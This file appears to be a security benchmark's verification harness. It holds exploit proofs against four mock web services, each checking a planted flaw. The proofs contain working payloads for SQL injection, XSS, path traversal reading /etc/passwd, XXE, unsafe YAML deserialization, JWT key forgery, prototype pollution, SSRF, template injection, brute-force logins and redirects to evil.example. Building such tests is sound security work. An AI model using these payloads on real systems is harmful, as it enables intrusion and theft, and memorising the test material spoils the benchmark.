"""The exploits for the tenth set: one for each weakness, by service and name."""

import base64
import csv
import hashlib
import io
import json
import re
import time

import common
import httpx
import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAIAAAUAAXpeqz8AAAAASUVORK5CYII=")


# apiary -----------------------------------------------------------------------------------------------------------------------------------


def rpc(client, method, caller=None, **params):
    """The result of a call; nothing where it is refused."""
    return client.post("/rpc", json={"jsonrpc": "2.0", "id": 1, "method": method, "params": params}, headers=caller or {}).json().get("result")


@sign_in("apiary")
def _(client, name):
    return {"Authorization": "Bearer " + rpc(client, "session.open", username=name, password=PASSWORD[name])["token"]}


@proof("apiary", "hive-read")
def _(client):
    hive = rpc(client, "hive.list", client.as_("ann"))[0]["hiveId"]
    assert hive == 301 and "position" in rpc(client, "hive.get", client.as_("ann"), hiveId=hive)
    return "position" in (rpc(client, "hive.get", client.as_("ben"), hiveId=hive) or {})


@proof("apiary", "harvest-correct")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    harvest = rpc(client, "harvest.list", ann)[0]["harvestId"]
    assert rpc(client, "harvest.correct", ann, harvestId=harvest, grams=77)["grams"] == 77
    rpc(client, "harvest.correct", ben, harvestId=harvest, grams=1)
    return rpc(client, "harvest.list", ann)[0]["grams"] == 1


@proof("apiary", "members-open")
def _(client):
    assert rpc(client, "orders.all", client.as_("ann")) is None and rpc(client, "members.list", client.as_("olga"))
    return bool(rpc(client, "members.list", client.as_("ann")))


@proof("apiary", "batch-guesses")
def _(client):
    wrong = [f"wrong-{number}" for number in range(19)]
    calls = [{"jsonrpc": "2.0", "id": 1, "method": "session.open", "params": {"username": "ben", "password": word}} for word in [*wrong, PASSWORD["ben"]]]
    opened = "token" in client.post("/rpc", json=calls).json()[-1].get("result", {})
    statuses = [client.post("/rpc", json={"jsonrpc": "2.0", "id": 1, "method": "session.open", "params": {"username": "carol", "password": word}}).status_code for word in wrong[:6]]
    assert statuses == [401] * 5 + [429]
    return opened


@proof("apiary", "harvests-limit")
def _(client):
    ann = client.as_("ann")
    assert len(rpc(client, "harvest.list", ann, limit=50)) == 50
    return len(rpc(client, "harvest.list", ann, limit=100_000) or ()) == 300


@proof("apiary", "honey-sql")
def _(client):
    assert rpc(client, "honey.search", q="lime")[0]["name"] == "Lime blossom honey"
    return "olga@office.example" in str(rpc(client, "honey.search", q="' UNION SELECT username, email, phone FROM contacts --"))


@proof("apiary", "jars-negative")
def _(client):
    ann = client.as_("ann")
    assert rpc(client, "order.place", ann, honeyId=1, jars=1)["credits"] == 4110
    rpc(client, "order.place", ann, honeyId=1, jars=-10)
    return rpc(client, "member.me", ann)["credits"] > 5000


@proof("apiary", "profile-merge")
def _(client):
    ann = client.as_("ann")
    assert rpc(client, "member.update", ann, displayName="Ann B", role="admin")["displayName"] == "Ann B"
    return rpc(client, "orders.all", ann) is not None


@proof("apiary", "trace-shown")
def _(client):
    answer = client.post("/rpc", json={"jsonrpc": "2.0", "id": 1, "method": "harvest.list", "params": {"limit": "many"}}, headers=client.as_("ann"))
    assert "error" in answer.json()
    return "Traceback" in answer.text and "service.py" in answer.text


@proof("apiary", "weather-inner")
def _(client):
    ann = client.as_("ann")
    assert rpc(client, "weather.attach", ann, hiveId=301, url="https://stations.weather.example/54")["forecast"] == "queued"
    with called() as (url, requests, _):
        found = rpc(client, "weather.attach", ann, hiveId=301, url=url) or {}
        return bool(requests) and found.get("forecast") == "inner"


@proof("apiary", "close-keeps")
def _(client):
    ann = client.as_("ann")
    assert rpc(client, "session.close", ann)
    return rpc(client, "member.me", ann) is not None


@proof("apiary", "label-template")
def _(client):
    ann = client.as_("ann")
    assert rpc(client, "label.preview", ann, hiveId=301, text="Honey of {{ hive }}")["label"] == "Honey of Hive of ann"
    found = (rpc(client, "label.preview", ann, hiveId=301, text="{{ 7 * 7 }} {{ settings.salt }}") or {}).get("label", "")
    return re.fullmatch(r"49 [0-9a-f]{16}", found) is not None


# bathhouse --------------------------------------------------------------------------------------------------------------------------------


class Bather(httpx.Client):
    """A browser at the bath house, with cookies of its own."""

    def __init__(self, client, name=None, **more):
        super().__init__(base_url=client.base_url, trust_env=False, timeout=30)
        if name:
            self.entered = self.post("/login", data={"username": name, "password": PASSWORD[name]} | more)
            assert self.entered.status_code == 303

    def fill(self, path, **fields):
        token = re.search(r'name="csrf_token" value="([^"]+)"', self.get("/treatments/1").text)[1]
        return self.post(path, data={"csrf_token": token} | fields)

    def balance(self):
        return int(re.search(r'id="balance">(-?\d+)', self.get("/purse").text)[1])

    def visit(self):
        return re.search(r'href="(/visits/\d+)"', self.get("/visits").text)[1]


@sign_in("bathhouse")
def _(client, name):
    return {"Cookie": Bather(client, name).entered.headers["set-cookie"].partition(";")[0]}


@proof("bathhouse", "search-quotes")
def _(client):
    text = client.get("/treatments", params={"q": '" onfocus="alert(1)" autofocus x="<b>'}).text
    assert "<b>" not in text
    return 'value="" onfocus="alert(1)" autofocus x=' in text


@proof("bathhouse", "nickname-markup")
def _(client):
    ann, markup = Bather(client, "ann"), "<img src=x onerror=alert(1)>"
    assert ann.fill("/account/nickname", nickname=markup).status_code == 303
    ann.fill("/guestbook", text=markup)
    assert markup not in ann.get("/account").text
    page = client.get("/guestbook")
    assert "&lt;img" in page.text
    return f"<b>{markup}</b>" in page.text and "default-src 'none'" not in page.headers.get("content-security-policy", "")


@proof("bathhouse", "visit-read")
def _(client):
    path = Bather(client, "ann").visit()
    return "Code of the locker" in Bather(client, "ben").get(path).text


@proof("bathhouse", "visit-move")
def _(client):
    ann = Bather(client, "ann")
    path = ann.visit()
    assert ann.fill(f"{path}/move", day="2031-08-08").status_code == 303 and "2031-08-08" in ann.get(path).text
    Bather(client, "ben").fill(f"{path}/move", day="2031-09-09")
    return "2031-09-09" in ann.get(path).text


@proof("bathhouse", "cookie-script")
def _(client):
    return "httponly" not in Bather(client, "ann").entered.headers["set-cookie"].lower()


@proof("bathhouse", "email-csrf")
def _(client):
    ann = Bather(client, "ann")
    assert ann.post("/account/nickname", data={"nickname": "x"}).status_code == 403
    taken = ann.post("/account/email", data={"email": "evil@mail.example"}).status_code == 303
    return taken and "evil@mail.example" in ann.get("/account").text and "samesite" not in ann.entered.headers["set-cookie"].lower()


@proof("bathhouse", "refund-again")
def _(client):
    ann = Bather(client, "ann")
    path, before = ann.visit(), ann.balance()
    ann.fill(f"{path}/cancel")
    once = ann.balance()
    ann.fill(f"{path}/cancel")
    assert once > before
    return ann.balance() > once


@proof("bathhouse", "price-field")
def _(client):
    ann = Bather(client, "ann")
    before = ann.balance()
    assert ann.fill("/visits", treatment="4", price="1", day="2031-05-20", wishes="").status_code == 303
    assert ann.balance() < before
    return ann.balance() == before - 1


@proof("bathhouse", "next-outside")
def _(client):
    assert Bather(client, "ann", next="/visits").entered.headers["location"] == "/visits"
    return Bather(client, "ann", next="https://evil.example/").entered.headers["location"] == "https://evil.example/"


@proof("bathhouse", "letter-host")
def _(client):
    ann = Bather(client, "ann")
    assert client.post("/forgot", data={"email": "ann@north.example"}, headers={"X-Forwarded-Host": "evil.example"}).status_code == 200
    assert "/reset?token=" in ann.get("/letters").text
    return "http://evil.example/reset?token=" in ann.get("/letters").text


@proof("bathhouse", "forgot-texts")
def _(client):
    known, unknown = (client.post("/forgot", data={"email": email}) for email in ("ann@north.example", "nobody@north.example"))
    assert known.status_code == 200
    return known.text != unknown.text or unknown.status_code != 200


@proof("bathhouse", "pages-framed")
def _(client):
    answers = [client.get(path) for path in ("/", "/login", "/treatments", "/guestbook")]
    return not any("x-frame-options" in answer.headers or "content-security-policy" in answer.headers for answer in answers)


# snaglist ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("snaglist")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/auth/token", json={"username": name, "password": PASSWORD[name]}).json()["access_token"]}


def snag_of(client, caller):
    return client.get("/snags", headers=caller).json()[-1]["snag_id"]


def upload(client, caller, name, content, media):
    return client.post(f"/snags/{snag_of(client, caller)}/photos", files={"file": (name, content, media)}, headers=caller)


@proof("snaglist", "photo-path")
def _(client):
    ann = client.as_("ann")
    assert upload(client, ann, "../public/proof.png", PNG, "image/png").status_code == 201
    assert client.get("/public/notice.txt").text.startswith("Helmets")
    return client.get("/public/proof.png").content == PNG


@proof("snaglist", "plan-path")
def _(client):
    ann = client.as_("ann")
    assert "kitchen" in client.get("/plans", params={"name": "ground-floor.txt"}, headers=ann).text
    texts = [client.get("/plans", params={"name": name}, headers=ann).text for name in ("../../../etc/passwd", "../config/settings.ini")]
    return "root:x:0:0" in texts[0] and "password =" in texts[1]


@proof("snaglist", "photo-markup")
def _(client):
    ann = client.as_("ann")
    number = upload(client, ann, "a.png", PNG, "image/png").json()["photo_id"]
    assert client.get(f"/photos/{number}/content", headers=ann).headers["content-type"] == "image/png"
    sent = upload(client, ann, "a.html", b"<script>alert(1)</script>", "text/html")
    if sent.status_code != 201:
        return False
    answer = client.get(f"/photos/{sent.json()['photo_id']}/content", headers=ann)
    return answer.headers["content-type"].startswith("text/html") and answer.headers["content-disposition"] == "inline" and "<script>" in answer.text


@proof("snaglist", "import-entity")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/xml"}
    good = "<snags><snag><title>Loose tile</title><room>bath</room></snag></snags>"
    assert client.post("/imports/xml", content=good, headers=caller).status_code == 201
    bad = '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + good.replace("Loose tile", "&x;")
    return "root:x:0:0" in client.post("/imports/xml", content=bad, headers=caller).text


@proof("snaglist", "import-objects")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/yaml"}
    assert client.post("/imports/yaml", content="snags: [{title: Loose tile, room: bath}]", headers=caller).status_code == 201
    started = time.monotonic()
    client.post("/imports/yaml", content="snags: [{title: !!python/object/apply:time.sleep [1.5], room: bath}]", headers=caller)
    slept = time.monotonic() - started > 1.4
    imported = client.post("/imports/yaml", content="snags: [{title: !!python/object/apply:os.getcwd [], room: bath}]", headers=caller)
    return slept and imported.status_code == 201 and imported.json()["imported"][0]["title"].startswith("/")


@proof("snaglist", "export-formula")
def _(client):
    ann = client.as_("ann")
    client.post("/snags", json={"title": '=HYPERLINK("http://evil.example","x")', "room": "hall"}, headers=ann)
    number = client.post("/exports", json={"format": "csv"}, headers=ann).json()["export_id"]
    rows = list(csv.reader(io.StringIO(client.get(f"/exports/{number}/file", headers=ann).text)))
    assert "HYPERLINK" in rows[-1][1]
    return rows[-1][1].startswith("=")


@proof("snaglist", "export-read")
def _(client):
    number = client.get("/exports", headers=client.as_("ann")).json()[0]["export_id"]
    return "reported by ann" in client.get(f"/exports/{number}/file", headers=client.as_("ben")).text


@proof("snaglist", "share-guess")
def _(client):
    ann = client.as_("ann")
    number = snag_of(client, ann)
    link = client.post(f"/snags/{number}/share", headers=ann).json()["link"]
    assert client.get(link).json()["title"]
    return client.get("/shared/" + hashlib.md5(str(number).encode(), usedforsecurity=False).hexdigest()).status_code == 200


@proof("snaglist", "snag-merge")
def _(client):
    ann = client.as_("ann")
    number = snag_of(client, ann)
    client.patch(f"/snags/{number}", json={"title": "New", "state": "done", "cost": 1, "approved_by": "olga"}, headers=ann)
    snag = client.get(f"/snags/{number}", headers=ann).json()
    assert snag["title"] == "New"
    return (snag["state"], snag["cost"], snag["approved_by"]) == ("done", 1, "olga")


@proof("snaglist", "origin-echo")
def _(client):
    ann = client.as_("ann")
    assert client.get("/me", headers=ann | {"Origin": "https://app.snaglist.example"}).headers["access-control-allow-origin"]
    headers = client.get("/me", headers=ann | {"Origin": "https://evil.example"}).headers
    return headers.get("access-control-allow-origin") == "https://evil.example" and headers["access-control-allow-credentials"] == "true"


@proof("snaglist", "token-expired")
def _(client):
    def status(seconds):
        token = jwt.encode({"sub": "ann", "exp": int(time.time()) + seconds, "jti": "1"}, common.SIGNING_KEY, "HS256")
        return client.get("/me", headers={"Authorization": f"Bearer {token}"}).status_code

    assert status(60) == 200
    return status(-86400) == 200


@proof("snaglist", "photo-open")
def _(client):
    number = upload(client, client.as_("ann"), "tap.png", PNG, "image/png").json()["photo_id"]
    assert client.get(f"/photos/{number}/content", headers=client.as_("ann")).content.startswith(b"\x89PNG")
    return client.get(f"/photos/{number}/content").content.startswith(b"\x89PNG")


# dockyard ---------------------------------------------------------------------------------------------------------------------------------


@sign_in("dockyard")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/sessions", json={"username": name, "password": PASSWORD[name]}).json()["token"]}


def order_of(client, caller, state):
    return client.get("/work-orders", params={"state": state}, headers=caller).json()["workOrders"][0]["id"]


@proof("dockyard", "order-yard")
def _(client):
    ann = client.as_("ann")
    path = f"/work-orders/{order_of(client, ann, 'open')}"
    assert client.get(path, headers=client.as_("carol")).json()["gateCode"]
    return "gateCode" in client.get(path, headers=client.as_("ben")).json()


@proof("dockyard", "crew-yard")
def _(client):
    assert len(client.get("/crew", headers=client.as_("ann")).json()["crew"]) == 2
    return "carol" in client.get("/crew", params={"yard": "north"}, headers=client.as_("ben")).text


@proof("dockyard", "crew-fields")
def _(client):
    crew = client.get("/crew", headers=client.as_("ann")).json()["crew"]
    return "$" in crew[1].get("passwordHash", "") and crew[1]["iban"].startswith("GB")


@proof("dockyard", "approve-anybody")
def _(client):
    ann, olga = client.as_("ann"), client.as_("olga")
    client.post(f"/work-orders/{order_of(client, ann, 'open')}/approve", headers=ann)
    seen = bool([order for order in client.get("/work-orders", headers=ann).json()["workOrders"] if order["createdBy"] == "ann" and order["state"] == "open"])
    assert client.post(f"/work-orders/{order_of(client, client.as_('ben'), 'open')}/approve", headers=olga).status_code == 200
    return not seen


@proof("dockyard", "timesheet-hours")
def _(client):
    ann = client.as_("ann")
    order = order_of(client, ann, "open")
    statuses = [client.post("/timesheets", json={"workOrder": order, "hours": hours, "day": "2031-03-05"}, headers=ann).status_code for hours in (6, -40, 5000)]
    assert statuses[0] == 201
    return statuses[1:] == [201, 201]


@proof("dockyard", "invoice-again")
def _(client):
    ann = client.as_("ann")
    path = f"/work-orders/{order_of(client, ann, 'approved')}/invoice"
    once = client.post(path, headers=ann).json()["earnedCents"]
    client.post(path, headers=ann)
    return client.get("/me", headers=ann).json()["earnedCents"] > once


@proof("dockyard", "token-embedded")
def _(client):
    key = rsa.generate_private_key(65537, 2048)
    public = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    claims = {"sub": "olga", "exp": int(time.time()) + 600, "jti": "1", "era": 0}
    token = jwt.encode(claims, key, "RS256", headers={"jwk": {name: public[name] for name in ("kty", "n", "e")}})
    assert client.get("/me", headers={"Authorization": "Bearer " + jwt.encode(claims, key, "RS256")}).status_code == 401
    return client.get("/admin/audit", headers={"Authorization": f"Bearer {token}"}).status_code == 200


@proof("dockyard", "login-unlimited")
def _(client):
    statuses = [client.post("/sessions", json={"username": "carol", "password": f"wrong-{number}"}).status_code for number in range(20)]
    assert statuses[:5] == [401] * 5
    return statuses == [401] * 20


@proof("dockyard", "preferences-merge")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    assert client.patch("/me/preferences", json={"theme": "dark"}, headers=ann).json()["theme"] == "dark"
    client.patch("/me/preferences", json={"__proto__": {"everybody": "yes"}}, headers=ann)
    return client.get("/me/preferences", headers=ben).json().get("everybody") == "yes"


@proof("dockyard", "summary-cached")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    assert client.get("/reports/summary", headers=ann).json()["yard"] == "north"
    assert client.get("/reports/summary", headers=ann).headers["x-cache"] == "HIT"
    return client.get("/reports/summary", headers=ben).json()["yard"] == "north"


@proof("dockyard", "original-address")
def _(client):
    assert [client.get("/admin/audit", headers=client.as_(name)).status_code for name in ("ann", "olga")] == [403, 200]
    return "olga@office.example" in client.get("/version", headers={"X-Original-URL": "/admin/audit"}).text


@proof("dockyard", "actuator-open")
def _(client):
    return "QUEUE_PASSWORD" in client.get("/actuator/env").text
